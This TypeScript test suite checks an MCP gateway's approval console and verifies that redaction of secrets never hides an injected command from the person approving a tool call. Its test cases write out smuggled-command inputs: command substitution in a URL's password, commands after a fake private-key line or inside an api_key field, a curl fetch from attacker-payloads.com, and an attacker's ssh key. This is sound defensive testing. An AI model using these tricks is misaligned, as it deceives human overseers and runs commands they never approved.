import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useChromium } from './support/chromium.js';
import { decide, pendingApproval, type Pending } from './support/pending-approval.js';
import { closeAfterEach, connectClient, serveGateway, type ServedGateway } from './support/serve-gateway.js';

// Redaction masks a value by where it stands (a URL's userinfo, a credential's label or header, an argument named
// like a credential), not by what it holds. A model put a command into that place: the card a person approves read
// `https://[redacted]@github.com` or `"api_key": "[redacted]"`, "1 value masked", while a shell later ran the
// command. Each card must show the command.

const opened = closeAfterEach();
const SHELL_SERVER = join(import.meta.dirname, 'fixtures', 'mcp', 'shell-server.mjs');
const PAYLOAD = 'touch${IFS}PWNED';

/** The card as the console shows it to a person, in Chromium. */
async function cardText(gateway: ServedGateway, openPage: () => Promise<import('playwright-core').Page>, shows: string): Promise<string> {
  const page = await openPage();
  try {
    await page.goto(String(gateway.consoleUrl));
    await page.getByRole('button', { name: /Approvals/ }).click();
    const card = page.locator('[data-approval]');
    await card.waitFor({ timeout: 20_000 });
    await expect.poll(() => card.textContent(), { timeout: 20_000 }).toContain(shows);
    return await card.innerText();
  } finally {
    await page.close();
  }
}

/** A gateway serving the shell server, a client of it, and a way to call one of its tools (`shell`, `deploy`) and read the card. */
type ShellServerTool = 'shell' | 'deploy' | 'add_ssh_key';

async function shellServerCalls(): Promise<{ gateway: ServedGateway; ask: (tool: ShellServerTool, args: Record<string, string>) => Promise<{ pending: Pending; answered: Promise<unknown> }> }> {
  const gateway = opened.gateway(await serveGateway({ scope: 'workspace-write', mode: 'ask', servers: { ops: { command: process.execPath, args: [SHELL_SERVER] } } }));
  const mcp = opened.client((await connectClient(gateway.mcpUrl, 'attacker', undefined, gateway.auth)).client);
  const names = (await mcp.listTools()).tools.map((entry) => entry.name);
  const ask = async (tool: ShellServerTool, args: Record<string, string>): Promise<{ pending: Pending; answered: Promise<unknown> }> => {
    const name = names.find((entry) => entry.endsWith(tool)) as string;
    const answered = mcp.callTool({ name, arguments: args });
    return { pending: await pendingApproval(gateway, name), answered };
  };
  return { gateway, ask };
}

/** Reject the card, and see that nothing ran. */
async function rejectAndCheck(gateway: ServedGateway, pending: Pending, answered: Promise<unknown>): Promise<void> {
  await decide(gateway, pending.id, 'reject');
  await answered;
  expect(existsSync(join(gateway.workspace, 'PWNED'))).toBe(false);
}

/** Every text the console's API gives a person for the approval. */
const shown = (pending: Pending): string => JSON.stringify([pending.preview, (pending as Pending & { arguments?: unknown }).arguments, pending.target, pending.diff, pending.view]);

describe('attack: a command placed where redaction masks a secret', () => {
  const browser = useChromium();
  const openPage = () => browser().newPage();

  it('a write_file of a script whose URL password is a command substitution: the card shows the command, and the file is what it showed', async () => {
    const gateway = opened.gateway(await serveGateway({ scope: 'workspace-write', mode: 'ask' }, { files: { 'deploy.sh': '#!/bin/sh\necho deploying\n' } }));
    const mcp = opened.client((await connectClient(gateway.mcpUrl, 'attacker', undefined, gateway.auth)).client);
    const line = `git ls-remote https://deploy:ghs\`${PAYLOAD};echo\${IFS}x\`@github.com/acme/site.git >/dev/null 2>&1`;
    const call = mcp.callTool({ name: 'write_file', arguments: { path: 'deploy.sh', content: `#!/bin/sh\necho deploying\n${line}\n` } });
    const pending = await pendingApproval(gateway, 'write_file');
    expect(pending.diff).toContain(`\`${PAYLOAD};echo\${IFS}x\`@github.com`);
    const card = await cardText(gateway, openPage, 'deploying');
    expect(card).toContain(PAYLOAD);
    await decide(gateway, pending.id, 'once');
    await call;
    expect(readFileSync(join(gateway.workspace, 'deploy.sh'), 'utf8')).toContain(PAYLOAD);
  }, 60_000);

  it('an upstream shell tool given a URL whose userinfo holds a command: the card shows it; rejected, nothing runs', async () => {
    const { gateway, ask } = await shellServerCalls();
    const { pending, answered } = await ask('shell', { command: `git ls-remote https://ci:ghp\`${PAYLOAD}\`x@github.com/acme/site.git` });
    expect(shown(pending)).toContain(PAYLOAD);
    expect(await cardText(gateway, openPage, 'ls-remote')).toContain(PAYLOAD);
    await rejectAndCheck(gateway, pending, answered);
  }, 60_000);

  it('an upstream tool argument named like a credential holding a command: the card shows the command', async () => {
    const { gateway, ask } = await shellServerCalls();
    const { pending, answered } = await ask('deploy', { api_key: `k3y;${PAYLOAD}` });
    expect(shown(pending)).toContain(`;${PAYLOAD}`);
    expect(await cardText(gateway, openPage, 'api_key')).toContain(PAYLOAD);
    await rejectAndCheck(gateway, pending, answered);
  }, 60_000);

  // A second attack: a mask ran across line breaks. A private key's BEGIN line took `/usr/bin/X11/touch PWNED` (base64's
  // characters, a capital) for a key line, and an argument named like a credential was masked whole, line breaks and all.
  it('an upstream shell tool given a private key BEGIN line, then a command: the card shows the command', async () => {
    const { gateway, ask } = await shellServerCalls();
    const { pending, answered } = await ask('shell', { command: 'echo -----BEGIN PRIVATE KEY-----\n/usr/bin/X11/touch PWNED\necho ok' });
    expect(shown(pending)).toContain('/usr/bin/X11/touch PWNED');
    expect(await cardText(gateway, openPage, 'echo ok')).toContain('/usr/bin/X11/touch PWNED');
    await rejectAndCheck(gateway, pending, answered);
  }, 60_000);

  it('an argument named like a credential holding a line break, then a command: the card shows the command', async () => {
    const { gateway, ask } = await shellServerCalls();
    const { pending, answered } = await ask('deploy', { api_key: 'k3y\ntouch PWNED' });
    expect(shown(pending)).toContain('touch PWNED');
    await rejectAndCheck(gateway, pending, answered);
  }, 60_000);

  // A third attack: a quote after a label that closes a string (a mask over the words after it), a key line padded to a
  // key's width through Debian's /usr/bin/X11 link with the command's argument after a space, and a JWT-shaped host.
  it.each([
    ['a quote after a label that closes a string', 'env "DEPLOY password="x1y2 touch PWNED', 'touch PWNED'],
    ['a key line of a key\'s width with an argument', 'echo -----BEGIN PRIVATE KEY-----\n/usr/bin/X11/X11/X11/X11/X11/X11/X11/X11/touch PWNED\necho ok', '/usr/bin/X11/X11/X11/X11/X11/X11/X11/X11/touch PWNED'],
    ['a JWT-shaped host', 'curl -sS -o install.sh https://eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.attacker-payloads.com/install.sh', 'eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.attacker-payloads.com'],
  ])('an upstream shell tool given %s: the card shows what runs', async (_name, command, shows) => {
    const { gateway, ask } = await shellServerCalls();
    const { pending, answered } = await ask('shell', { command });
    expect(shown(pending)).toContain(shows);
    await rejectAndCheck(gateway, pending, answered);
  }, 60_000);

  // A fourth: a member masked for its name pasted unquoted into a command line, the word after a scheme, a variable then
  // run as a command, and a public key masked for its name (the card hid whose key gets in).
  it.each([
    ['deploy', 'a credential-named argument holding words', { api_key: 'x touch PWNED #' }, 'touch PWNED'],
    ['shell', 'a command after an authorization scheme', { command: 'Authorization=Basic touch PWNED' }, 'touch PWNED'],
    ['shell', 'a variable a shell then runs as a command', { command: 'API_TOKEN=touch; $API_TOKEN PWNED' }, 'API_TOKEN=touch'],
    ['add_ssh_key', 'a public key', { public_key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker1 attacker@evil.example' }, 'attacker@evil.example'],
  ] as const)('an upstream %s tool given %s: the card shows it', async (tool, _name, args, shows) => {
    const { gateway, ask } = await shellServerCalls();
    const { pending, answered } = await ask(tool, args);
    expect(shown(pending)).toContain(shows);
    await rejectAndCheck(gateway, pending, answered);
  }, 60_000);

  it('held: a password in a URL and a credential-named argument without code stay masked on the card', async () => {
    const { gateway, ask } = await shellServerCalls();
    const url = await ask('shell', { command: 'git ls-remote https://ci:hunter2secret@github.com/acme/site.git' });
    expect(shown(url.pending)).not.toContain('hunter2secret');
    expect(shown(url.pending)).toContain('https://[redacted]@github.com');
    await rejectAndCheck(gateway, url.pending, url.answered);
    const key = await ask('deploy', { api_key: 'k3y0123456789abcdef' });
    expect(shown(key.pending)).not.toContain('k3y0123456789abcdef');
    await rejectAndCheck(gateway, key.pending, key.answered);
  }, 60_000);
});
